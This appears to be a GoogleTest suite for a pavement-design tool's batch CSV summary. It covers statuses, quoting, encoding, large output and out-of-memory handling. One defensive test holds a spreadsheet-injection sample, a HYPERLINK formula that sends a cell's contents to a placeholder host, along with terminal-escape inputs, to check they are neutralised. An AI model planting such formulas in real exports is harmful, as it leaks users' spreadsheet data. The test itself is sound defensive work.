// zan-report --summary: the CSV it writes for a batch of files, checked against what the
// single-file modes say about each file, and its quoting, statuses and output.

#include <gtest/gtest.h>

#include <algorithm>
#include <filesystem>
#include <ostream>
#include <string>
#include <string_view>
#include <vector>

#include "commands/summary.h"
#include "zan_report_fixture.h"

namespace {

using namespace zan_report_test;

const std::string kHeader =
    "file,unit system,trial thickness,total fatigue %,total erosion %,recommended thickness,"
    "status,project,warnings,fingerprint\r\n";

std::vector<std::string> exampleFiles() {
    std::vector<std::string> files;
    for (const auto& entry : fs::directory_iterator(kExamples))
        if (entry.path().extension() == ".DEF")
            files.push_back(entry.path().string());
    std::sort(files.begin(), files.end());
    return files;
}

// The text between `before` and the next CR LF (or line end) after it; empty when absent.
std::string after(const std::string& text, const std::string& before, std::size_t from = 0) {
    const std::size_t start = text.find(before, from);
    if (start == std::string::npos)
        return "";
    const std::size_t value = start + before.size();
    return text.substr(value, text.find_first_of("\r\n", value) - value);
}

std::string trimmed(std::string text) {
    text.erase(0, text.find_first_not_of(' '));
    text.erase(text.find_last_not_of(' ') + 1);
    return text;
}

class Summary : public ZanReport {
  protected:
    // The last column: what --fingerprint prints for the file, empty for one it cannot read.
    std::string fingerprintOf(const std::string& path) const {
        const Outcome r = run({"--fingerprint", path});
        return r.status == 0 ? r.out.substr(0, r.out.size() - 1) : "";
    }

    // The summary line of a good file, put together from the single-file modes: the trial
    // thickness and the two sums of the Both report, and the thickness --design announces.
    std::string lineFromSingleModes(const std::string& path) const {
        const Outcome both = run({"--both", path});
        const Outcome design = run({"--design", path});
        EXPECT_EQ(both.status, 0) << path;
        EXPECT_EQ(design.status, 0) << path;
        const bool metric = both.out.find("Trial Thickness, h (cm) = ") != std::string::npos;
        const std::string trial =
            after(both.out, metric ? "Trial Thickness, h (cm) = " : "Trial Thickness, h (in) = ");
        const std::size_t fatigueSum = both.out.find("Sum =");
        const std::string fatigue = trimmed(after(both.out, "Sum =", fatigueSum));
        const std::string erosion = trimmed(after(both.out, "Sum =", fatigueSum + 1));
        std::string found = after(design.err, "The Recommended Minimum Slab Thickness is :  ");
        found = found.substr(0, found.find("  "));
        // The project as the file names it (the single modes print none).
        const std::string project = after(readBytes(path), "\r\nProject: ");
        return path + "," + (metric ? "Metric" : "English") + "," + trial + "," + fatigue + "," +
               erosion + "," + found + ",ok," + project + ",0," + fingerprintOf(path) + "\r\n";
    }
};

TEST_F(Summary, OfAllExamplesAndABrokenFileAgreesWithTheSingleModes) {
    const std::vector<std::string> examples = exampleFiles();
    ASSERT_GE(examples.size(), 6u);
    const fs::path broken = file("broken.DEF", initialEnglishWith({{3, "***zan***"}}));
    const fs::path missing = dir() / "missing.DEF";

    // The broken file in the middle: the files after it are still summarised.
    std::vector<std::string> args = {"--summary"};
    args.insert(args.end(), examples.begin(), examples.begin() + 3);
    args.push_back(broken.string());
    args.insert(args.end(), examples.begin() + 3, examples.end());
    args.push_back(missing.string());
    const Outcome r = run(args);

    std::string expected = kHeader;
    for (std::size_t i = 0; i < examples.size(); ++i) {
        if (i == 3)
            expected += broken.string() + ",,,,,,not an input data file,,,\r\n";
        expected += lineFromSingleModes(examples[i]);
    }
    expected += missing.string() + ",,,,,,cannot be read: No such file or directory,,,\r\n";
    EXPECT_EQ(r.out, expected);
    EXPECT_EQ(r.status, 3) << "the first failure's status";
    EXPECT_EQ(r.err, "") << "no message boxes, not even \"Loaded!\"";
}

// The worked values of the initial designs, as their reports print them.
struct WorkedCase {
    const char* name;
    const char* file;
    const char* fields;
};

void PrintTo(const WorkedCase& c, std::ostream* os) {
    *os << c.name;
}

class SummaryOfInitialDesign : public Summary, public ::testing::WithParamInterface<WorkedCase> {};

TEST_P(SummaryOfInitialDesign, PrintsTheReportsNumbers) {
    const Outcome r = run({"--summary", example(GetParam().file)});
    EXPECT_EQ(r.status, 0) << r.err;
    EXPECT_EQ(r.out, kHeader + example(GetParam().file) + "," + GetParam().fields + "," +
                         fingerprintOf(example(GetParam().file)) + "\r\n");
}

INSTANTIATE_TEST_SUITE_P(
    WorkedValues, SummaryOfInitialDesign,
    ::testing::Values(
        WorkedCase{"English", "initial-english.DEF", "English,9.50,63.3,38.6,9.50,ok,,0"},
        WorkedCase{"Metric", "initial-metric.DEF", "Metric,24.10,65.4,39.0,24.00,ok,,0"},
        // Damage above 100 % at the trial thickness is a result, not a failure.
        WorkedCase{"VeryHeavy", "very-heavy.DEF", "English,9.50,212.0,37.1,10.00,ok,,0"},
        WorkedCase{"Heavy", "heavy.DEF",
                   "English,9.50,44.9,28.7,9.25,ok,County Road 12 reconstruction,0"}),
    [](const auto& info) { return std::string(info.param.name); });

// ---- Why a file failed ------------------------------------------------------------------

struct FailureCase {
    const char* name;
    std::string bytes;  // empty: no file at all
    int status;
    std::string fields;  // the line after the file name
};

void PrintTo(const FailureCase& c, std::ostream* os) {
    *os << c.name;
}

class SummaryFailure : public Summary, public ::testing::WithParamInterface<FailureCase> {};

TEST_P(SummaryFailure, KeepsTheLineAndSaysWhyAndExitsAsTheSingleModesWould) {
    const FailureCase& c = GetParam();
    const fs::path path = c.bytes.empty() ? dir() / "missing.DEF" : file("input.DEF", c.bytes);
    const Outcome r = run({"--summary", path.string()});
    // None of these files names a project: an empty field before the warnings.
    const std::size_t warnings = c.fields.rfind(',');
    EXPECT_EQ(r.out, kHeader + path.string() + "," + c.fields.substr(0, warnings) + "," +
                         c.fields.substr(warnings) + "," + fingerprintOf(path.string()) + "\r\n");
    EXPECT_EQ(r.status, c.status);
    EXPECT_EQ(run({"--design", path.string()}).status, c.status) << "--design fails the same way";
}

std::string truncatedAfter(int lines) {
    const std::string bytes = initialEnglishWith({});
    std::size_t end = 0;
    for (int i = 0; i < lines; ++i)
        end = bytes.find("\r\n", end) + 2;
    return bytes.substr(0, end);
}

INSTANTIATE_TEST_SUITE_P(
    Statuses, SummaryFailure,
    ::testing::Values(
        FailureCase{"NotAnInputDataFile", "hello\r\n\r\nworld\r\n", 3,
                    ",,,,,not an input data file,"},
        FailureCase{"Missing", "", 4, ",,,,,cannot be read: No such file or directory,"},
        FailureCase{"EndsInTheAxleRows", truncatedAfter(25), 4, ",,,,,ends early,"},
        FailureCase{"ZeroThickness", initialEnglishWith({{5, "0"}}), 5,
                    "English,0.00,,,,refused: The trial thickness h (in) is zero or negative; it "
                    "must be greater than zero. Nothing was analysed.,1"},
        FailureCase{"ZeroLoad", initialEnglishWith({{20, R"("0","0.58","52","1.96")"}}), 5,
                    "English,9.50,,,,refused: The single axle load in row 1 (kips) is zero or "
                    "negative after the load safety factor. Every axle load must be greater than "
                    "zero. Nothing was analysed.,1"},
        // A load no slab carries; the totals at the trial thickness are still results.
        FailureCase{"NoPassingThickness",
                    initialEnglishWith({{5, "49"}, {20, R"("2000","0.58","52","1.96")"}}), 6,
                    "English,49.00,13754485000000000000000.0,13105.8,,"
                    "no passing thickness up to 50 in,2"},
        FailureCase{
            "NoPassingThicknessInCentimetres",
            exampleWith("initial-metric.DEF", {{5, "126"}, {20, R"("9000","0.58","231","1.96")"}}),
            6,
            "Metric,126.00,3065413600000000000000.0,12349.6,,"
            "no passing thickness up to 127 cm,2"},
        // Inputs outside their typical ranges: computed as always, but never plainly ok.
        FailureCase{"OneInputOutsideItsRange", initialEnglishWith({{5, "80"}}), 0,
                    "English,80.00,0.0,0.0,9.50,"
                    "\"ok, 1 input outside its typical range\",1"},
        FailureCase{"InputsOutsideTheirRanges", initialEnglishWith({{5, "80"}, {18, "60"}}), 0,
                    "English,80.00,0.0,0.0,10.75,"
                    "\"ok, 2 inputs outside their typical ranges\",2"},
        // Read as the program has always read them, but said.
        FailureCase{"DecimalCommaInTheTraffic", initialEnglishWith({{12, "12,900"}}), 0,
                    "English,9.50,0.1,0.0,7.50,\"ok, 1 input not read as written\",1"},
        FailureCase{"TextThatIsNoKeyAfterTheProject",
                    initialEnglishWith({}) + "***Project***\r\nfree text\r\n", 0,
                    "English,9.50,63.3,38.6,9.50,\"ok, project lines kept unread\",1"},
        FailureCase{"SecondDesignRunOn",
                    initialEnglishWith({}) + exampleWith("heavy.DEF", {{31, "ZAN Data End"}}), 0,
                    "English,9.50,63.3,38.6,9.50,\"ok, project lines kept unread\",1"},
        FailureCase{"NoUnitMarker", initialEnglishWith({{1, "ENG"}}), 0,
                    "English,9.50,63.3,38.6,9.50,\"ok, no unit marker\",1"}),
    [](const auto& info) { return std::string(info.param.name); });

// A summary warns about the inputs outside their ranges as the single-file modes do.
TEST_F(Summary, WarnsOnStandardErrorAsTheSingleModes) {
    const fs::path slip = file("slip.DEF", initialEnglishWith({{5, "80"}, {18, "60"}}));
    const Outcome r = run({"--summary", slip.string(), example("initial-english.DEF")});
    EXPECT_EQ(r.status, 0);
    const std::string prefix = "zan-report: warning: " + slip.string() + ": ";
    EXPECT_EQ(r.err,
              prefix + "Trial Thickness, h (in) = 80 is outside the typical range 4 to 20\n" +
                  prefix + "Design Period, Years = 60 is outside the typical range 1 to 50\n");
    EXPECT_EQ(run({"--inputs", slip.string()}).err, r.err);
}

TEST_F(Summary, OfAFolderSaysItCannotBeRead) {
    const Outcome r = run({"--summary", dir().string()});
    EXPECT_EQ(r.out, kHeader + dir().string() + ",,,,,,cannot be read: Is a directory,,,\r\n");
    EXPECT_EQ(r.status, 4);
}

TEST_F(Summary, ExitsWithTheFirstFailuresStatus) {
    const fs::path good = example("initial-english.DEF");
    const fs::path noPass =
        file("no-pass.DEF", initialEnglishWith({{5, "49"}, {20, R"("2000","0.58","52","1.96")"}}));
    const fs::path notData = file("not-data.DEF", "hello\r\n\r\nworld\r\n");
    EXPECT_EQ(run({"--summary", good, noPass, notData}).status, 6);
    EXPECT_EQ(run({"--summary", notData, noPass, good}).status, 3);
    EXPECT_EQ(run({"--summary", good, good}).status, 0);
}

// ---- CSV ------------------------------------------------------------------------------------

struct FieldCase {
    const char* name;
    std::string text;
    std::string field;
};

void PrintTo(const FieldCase& c, std::ostream* os) {
    *os << c.name;
}

class CsvField : public ::testing::TestWithParam<FieldCase> {};

TEST_P(CsvField, IsQuotedOnlyWhenItMustBe) {
    EXPECT_EQ(zan::csvField(GetParam().text), GetParam().field);
}

class SpreadsheetText : public ::testing::TestWithParam<FieldCase> {};

TEST_P(SpreadsheetText, IsShownAndNeverRun) {
    EXPECT_EQ(zan::spreadsheetText(GetParam().text), GetParam().field);
}

INSTANTIATE_TEST_SUITE_P(Rfc4180, CsvField,
                         ::testing::Values(FieldCase{"Empty", "", ""},
                                           FieldCase{"Plain", "designs/a b.DEF", "designs/a b.DEF"},
                                           FieldCase{"Comma", "a,b.DEF", "\"a,b.DEF\""},
                                           FieldCase{"Quote", "the \"old\" one",
                                                     "\"the \"\"old\"\" one\""},
                                           FieldCase{"OnlyAQuote", "\"", "\"\"\"\""},
                                           FieldCase{"LineFeed", "a\nb", "\"a\nb\""},
                                           FieldCase{"CarriageReturn", "a\rb", "\"a\rb\""},
                                           FieldCase{"Latin1", "\xe9t\xe9.DEF", "\xe9t\xe9.DEF"}),
                         [](const auto& info) { return std::string(info.param.name); });

// Texts that a spreadsheet would run as a formula or that would steer a terminal.
INSTANTIATE_TEST_SUITE_P(
    Spreadsheet, SpreadsheetText,
    ::testing::Values(FieldCase{"Plain", "designs/a b.DEF", "designs/a b.DEF"},
                      FieldCase{"Formula", "=1+2.DEF", "'=1+2.DEF"}, FieldCase{"Plus", "+1", "'+1"},
                      FieldCase{"Minus", "-design.DEF", "'-design.DEF"},
                      FieldCase{"At", "@SUM(A1)", "'@SUM(A1)"}, FieldCase{"Tab", "\tx", "\\x09x"},
                      FieldCase{"TabInside", "a\tb", "a\\x09b"},
                      FieldCase{"CarriageReturn", "\rx", "'\rx"},
                      FieldCase{"FormulaLaterIsText", "a=1", "a=1"},
                      FieldCase{"Escape", "\x1b]0;title\x07", "\\x1b]0;title\\x07"},
                      FieldCase{"Nul", std::string("a\0b", 3), "a\\x00b"},
                      FieldCase{"LineEndsStay", "a\r\nb", "a\r\nb"}),
    [](const auto& info) { return std::string(info.param.name); });

TEST_F(Summary, FormulasInAProjectOrAFileNameAreShownNotRun) {
    const std::string project = "=HYPERLINK(\"http://x/?\"&A1,\"click\")";
    file("=1+2.DEF", initialEnglishWith({}) + "***Project***\r\nProject: " + project + "\r\n");
    const Outcome r = run({"--summary", "--", "=1+2.DEF", example("heavy.DEF")}, dir());
    EXPECT_EQ(r.status, 0) << r.err;
    EXPECT_EQ(r.out, kHeader + "'=1+2.DEF,English,9.50,63.3,38.6,9.50,ok,\"'" +
                         zan::csvField(project).substr(1) + ",0," +
                         fingerprintOf((dir() / "=1+2.DEF").string()) + "\r\n" +
                         example("heavy.DEF") +
                         ",English,9.50,44.9,28.7,9.25,ok,County Road 12 reconstruction,0," +
                         fingerprintOf(example("heavy.DEF")) + "\r\n");
    writeBytes(dir() / "summary.csv", r.out);
    const std::string rows = "python3 -c \"import csv; print(len(list(csv.reader(open('" +
                             (dir() / "summary.csv").string() + "', newline='')))))\" > " +
                             quoted((dir() / "rows").string());
    if (std::system(rows.c_str()) == 0) {
        EXPECT_EQ(readBytes(dir() / "rows"), "3\n") << "the header and one row per file";
    }
}

// One encoding for the whole file: a Windows-1252 project and a name of Latin-1 bytes come
// out UTF-8 beside a UTF-8 project.
TEST_F(Summary, IsUtf8Throughout) {
    const std::string design = readBytes(kExamples / "initial-english.DEF");
    const fs::path latin = file("\xe9t\xe9.DEF", design + "***Project***\r\nProject: Caf\xe9\r\n");
    const fs::path utf8 = file("b.DEF", design +
                                            "***Project***\r\nEncoding: UTF-8\r\n"
                                            "Project: \u0141\u00f3d\u017a\r\n");
    const Outcome r = run({"--summary", latin.filename().string(), "b.DEF"}, dir());
    EXPECT_EQ(r.status, 0) << r.err;
    const std::string fields = ",English,9.50,63.3,38.6,9.50,ok,";
    EXPECT_EQ(r.out, kHeader + "\u00e9t\u00e9.DEF" + fields + "Caf\u00e9,0," +
                         fingerprintOf(latin.string()) + "\r\nb.DEF" + fields +
                         "\u0141\u00f3d\u017a,0," + fingerprintOf(utf8.string()) + "\r\n");
}

TEST_F(Summary, QuotesAPathWithACommaOrAQuote) {
    const std::string design = readBytes(kExamples / "initial-english.DEF");
    const fs::path comma = file("road 7, km 12.DEF", design);
    const fs::path quote = file("the \"old\" road.DEF", design);
    const Outcome r = run({"--summary", comma.string(), quote.string()});
    EXPECT_EQ(r.status, 0) << r.err;
    const std::string fields =
        ",English,9.50,63.3,38.6,9.50,ok,,0," + fingerprintOf(comma.string()) + "\r\n";
    EXPECT_EQ(r.out, kHeader + "\"" + comma.string() + "\"" + fields + "\"" +
                         (dir() / "the \"\"old\"\" road.DEF").string() + "\"" + fields);
}

// ---- Command line and output ------------------------------------------------------------

TEST_F(Summary, OptionsMayStandAfterTheFiles) {
    const std::string good = example("initial-english.DEF");
    const Outcome first = run({"--summary", good, good});
    const Outcome last = run({good, good, "--summary"});
    EXPECT_EQ(last.status, 0) << last.err;
    EXPECT_EQ(last.out, first.out);
}

TEST_F(Summary, WithAnotherCommandIsWrongUsage) {
    for (const char* mode : {"--both", "--design", "--inputs"}) {
        const Outcome r = run({"--summary", mode, example("initial-english.DEF")});
        EXPECT_EQ(r.status, 2) << mode;
        EXPECT_EQ(r.out, "");
        EXPECT_NE(r.err.find("only one of"), std::string::npos) << r.err;
    }
    const Outcome none = run({"--summary"});
    EXPECT_EQ(none.status, 2);
    EXPECT_NE(none.err.find("no input file"), std::string::npos) << none.err;
}

// More lines than one piece of standard output holds: none lost, none written twice, and the
// same bytes as the file -o writes.
TEST_F(Summary, OfManyFilesOnStandardOutputEqualsTheOutputFile) {
    const std::string metric = "the-metric-example-under-a-longer-name.DEF";
    const std::string heavy = "the-very-heavy-example-under-a-longer-name.DEF";
    fs::copy_file(example("initial-metric.DEF"), dir() / metric);
    fs::copy_file(example("very-heavy.DEF"), dir() / heavy);
    std::vector<std::string> args = {"--summary"};
    for (int i = 0; i < 600; ++i) {
        args.push_back(metric);
        args.push_back(heavy);
    }
    const Outcome toStdout = run(args, dir());
    EXPECT_EQ(toStdout.status, 0) << toStdout.err;
    EXPECT_GT(toStdout.out.size(), 64u * 1024u);

    std::string expected = kHeader;
    const std::string metricLine = metric + ",Metric,24.10,65.4,39.0,24.00,ok,,0," +
                                   fingerprintOf((dir() / metric).string()) + "\r\n";
    const std::string heavyLine = heavy + ",English,9.50,212.0,37.1,10.00,ok,,0," +
                                  fingerprintOf((dir() / heavy).string()) + "\r\n";
    for (int i = 0; i < 600; ++i)
        expected += metricLine + heavyLine;
    EXPECT_TRUE(toStdout.out == expected) << "the output differs from the expected lines";

    args.insert(args.begin() + 1, {"-o", "summary.csv"});
    const Outcome toFile = run(args, dir());
    EXPECT_EQ(toFile.status, 0) << toFile.err;
    EXPECT_EQ(toFile.out, "");
    EXPECT_TRUE(readBytes(dir() / "summary.csv") == expected);
}

TEST_F(Summary, OutputIntoAMissingFolderFailsWithSevenEvenWhenFilesFailed) {
    const fs::path out = dir() / "no such folder" / "summary.csv";
    const Outcome r = run({"--summary", "-o", out.string(), (dir() / "missing.DEF").string()});
    EXPECT_EQ(r.status, 7);
    EXPECT_EQ(r.out, "");
    EXPECT_NE(r.err, "");
}

TEST_F(Summary, FailedOutputKeepsTheOldFile) {
    // A folder stands where the summary should go; the old summary beside it is not touched.
    const fs::path out = dir() / "summary.csv";
    fs::create_directory(out);
    const Outcome r = run({"--summary", "-o", out.string(), example("initial-english.DEF")});
    EXPECT_EQ(r.status, 7);
    EXPECT_TRUE(fs::is_directory(out));
}

// Memory runs out while the summary is written: a message and status 7, never an abort, and
// the old file whole. The address space is limited (ulimit -v) to what a one-file summary
// needs, so that reading a file of the full 1 MiB an input may have fails.
TEST_F(Summary, RunningOutOfMemoryExitsWithSevenAndKeepsTheOldFile) {
#if defined(__SANITIZE_ADDRESS__)
    GTEST_SKIP() << "AddressSanitizer reserves more address space than any limit allows";
#endif
    fs::copy_file(example("heavy.DEF"), dir() / "small.DEF");
    writeBytes(dir() / "large.DEF", std::string(zan::kMaxInputDataFileBytes, ' '));
    const auto summaryWithin = [&](long kibibytes, const std::string& files) {
        writeBytes(dir() / "summary.csv", "old\r\n");
        // The subshell waits for the program (no exec), so that its note of an abort goes
        // where the program's messages go.
        const std::string command = "cd " + quoted(dir().string()) + " && (ulimit -v " +
                                    std::to_string(kibibytes) + " && " + quoted(kBinary) +
                                    " --summary -o summary.csv " + files + "; exit $?) 2>stderr";
        const int raw = std::system(command.c_str());
        return WIFEXITED(raw) ? WEXITSTATUS(raw) : -1;
    };
    long enough = 1L << 20;  // KiB
    long tooLittle = 0;
    ASSERT_EQ(summaryWithin(enough, "small.DEF"), 0);
    while (enough - tooLittle > 64)
        (summaryWithin((enough + tooLittle) / 2, "small.DEF") == 0 ? enough : tooLittle) =
            (enough + tooLittle) / 2;

    EXPECT_EQ(summaryWithin(enough, "small.DEF large.DEF small.DEF"), 7);
    EXPECT_NE(readBytes(dir() / "stderr").find("there is not enough memory"), std::string::npos)
        << readBytes(dir() / "stderr");
    EXPECT_EQ(readBytes(dir() / "summary.csv"), "old\r\n");
    fs::remove(dir() / "stderr");
    std::vector<std::string> left;
    for (const auto& entry : fs::directory_iterator(dir()))
        left.push_back(entry.path().filename().string());
    std::sort(left.begin(), left.end());
    EXPECT_EQ(left, (std::vector<std::string>{"large.DEF", "small.DEF", "summary.csv"}));
}

}  // namespace
